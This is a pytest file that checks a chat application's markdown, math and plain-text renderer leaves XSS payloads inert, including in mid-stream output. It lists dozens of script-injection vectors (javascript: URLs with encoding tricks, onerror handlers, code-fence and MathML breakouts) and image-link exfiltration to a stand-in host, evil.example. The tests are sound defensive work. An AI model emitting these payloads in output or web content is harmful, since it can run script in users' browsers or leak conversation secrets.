"""XSS and exfiltration payloads through the renderer, complete and mid-stream.

Every output is parsed (the way a browser tokenises it) and checked structurally against the
allowlist, rather than searched for a few bad strings.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from conversations import rendering
from conversations.rendering import IncrementalRenderer, render_markdown, render_plain_text

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1)">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\0script:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<javascript:alert(1)>",
    '<https://ok.example/" onmouseover="alert(1)>',
    '[x](https://ok.example/" onmouseover="alert(1))',
    '[x](https://ok.example/ "title\\" onmouseover=\\"alert(1)")',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><maction actiontype="statusline#http://evil" xlink:href="javascript:alert(1)">'
    "<mtext>x</mtext></maction></math>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=p></form>",
    '<div style="position:fixed;inset:0">overlay</div>',
    "<details open ontoggle=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![<img src=x onerror=alert(1)>](https://evil.example/a.png "t\\" onerror=\\"alert(1)")',
    "$\\href{javascript:alert(1)}{click}$",
    "$$\\href{javascript:alert(1)}{click}$$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "\\[\n\\href{javascript:alert(1)}{x}\n\\]",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{</math><img src=x onerror=alert(1)>}$",
    "$\\mathrm{<script>alert(1)</script>}$",
    "$$\n\\mbox{<iframe src=x>}\n$$",
    '$\\style{color:red}{x}\\class{x" onclick="alert(1)}{y}$',
    "`` `<script>alert(1)</script>` ``",
    "```` ``` <img src=x onerror=alert(1)> ``` ````",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```js onclick=alert(1)\nx\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| a | b |",
    "> <img src=x onerror=alert(1)>\n> [x](javascript:alert(1))",
    "- [x](javascript:alert(1))\n- ![y](https://evil.example/y)",
    "<!-- comment --><scr<script>ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
    "[a]: javascript:alert(1)\n\n[a]",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

ALLOWED_ATTRS = {
    "a": {"href", "title", "rel", "target", "class"},
    "div": {"class", "data-lang"},
    "span": {"class"},
    "pre": {"class"},
    "code": {"class"},
    "button": {"type", "class", "data-copy"},
    "th": {"class"},
    "td": {"class"},
    "ol": {"start"},
    "math": {"display"},
    "annotation": {"encoding"},
}
MATH_TAGS = rendering._MATHML_TAGS
HTML_TAGS = rendering._HTML_TAGS


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_inert(html: str) -> None:
    """Nothing in `html` can run script, fetch anything, or restyle the page."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    for tag, attrs in collector.tags:
        assert tag in HTML_TAGS | MATH_TAGS, (tag, html)
        assert tag not in {"img", "script", "style", "iframe", "svg", "maction", "form", "input"}
        names = {name for name, _ in attrs}
        allowed = ALLOWED_ATTRS.get(tag, rendering._MATHML_ATTRS if tag in MATH_TAGS else set())
        assert names <= allowed, (tag, attrs, html)
        assert not any(name.startswith("on") or name == "style" for name in names)
        values = dict(attrs)
        if tag == "a":
            href = (values.get("href") or "").strip().lower()
            assert href == "" or href.startswith(("https://", "http://", "mailto:")), html
            assert values.get("rel") == "noopener noreferrer nofollow"
            assert values.get("target") == "_blank"
        if tag == "button":
            assert values.get("type") == "button"
    # Text may mention anything (`href="vbscript:` is fine as text); markup may not.
    lowered = html.lower()
    for vector in ("<script", "<img", "<iframe", "<svg", "<style", "<object", "<embed"):
        assert vector not in lowered, (vector, html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_model_output_payload_is_inert(payload: str) -> None:
    assert_inert(render_markdown(payload))
    # The same payload inside a larger answer.
    assert_inert(render_markdown(f"Intro\n\n{payload}\n\n- item {payload}\n\n> {payload}\n"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_at_every_point_of_the_stream(payload: str) -> None:
    # Also inside an open code block and unclosed inline constructs (the tail's own paths).
    for text in (
        f"Intro {payload}\n\n{payload}\n\nEnd",
        f"Code:\n```html\n{payload}\n```\n\n**{payload} `{payload} $x {payload} [a]({payload}",
    ):
        renderer = IncrementalRenderer()
        for ch in text:
            renderer.feed(ch)
            append_html, tail_html = renderer.render()
            assert_inert(append_html)
            assert_inert(renderer.stable_html + tail_html)
        assert_inert(renderer.finish())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_user_text_payload_is_inert(payload: str) -> None:
    assert_inert(render_plain_text(payload))
    assert "<" not in render_plain_text(payload).replace("<p>", "").replace("</p>", "").replace(
        "<br>", ""
    )


def test_model_images_are_links_and_nothing_is_fetched() -> None:
    html = render_markdown("Look: ![x](https://evil.example/?q=secret)")
    assert "<img" not in html
    assert '<a href="https://evil.example/?q=secret" class="md-image-link"' in html


def test_math_href_and_maction_are_removed() -> None:
    html = render_markdown("$\\href{https://evil.example/}{x}$")
    assert "<math" in html
    assert "href=" not in html  # the TeX source stays in the annotation, as text
    assert "evil.example/}{x}</annotation>" in html
    assert "maction" not in rendering._sanitise(
        '<math><maction actiontype="statusline"><mi>x</mi><mtext>y</mtext></maction></math>'
    )


def test_the_sanitiser_alone_stops_raw_html() -> None:
    # Defence in depth: if markdown or math ever let raw HTML through, the allowlist still holds.
    raw = (
        '<p onclick="x()" style="color:red">a<img src=x onerror=alert(1)></p>'
        "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>s</a></svg>"
        "<iframe src=//evil></iframe><style>*{}</style><script>alert(1)</script>"
        '<a href="javascript:alert(1)">j</a><a href="/relative">r</a><a href="//evil/">p</a>'
        '<a href="https://ok.example/" target="_self" rel="opener">ok</a>'
        '<math><mrow href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi>'
        "</mrow></math>"
        '<span class="k evil-class">k</span><button onclick="x()" type="submit">b</button>'
        '<form><input value="x"></form><div class="code-block" data-x="1">d</div>'
    )
    html = rendering._sanitise(raw)
    assert_inert(html)
    assert '<span class="k">k</span>' in html
    assert (
        '<a href="https://ok.example/" target="_blank" rel="noopener noreferrer nofollow">' in html
    )
    assert "evil-class" not in html
    assert "data-x" not in html
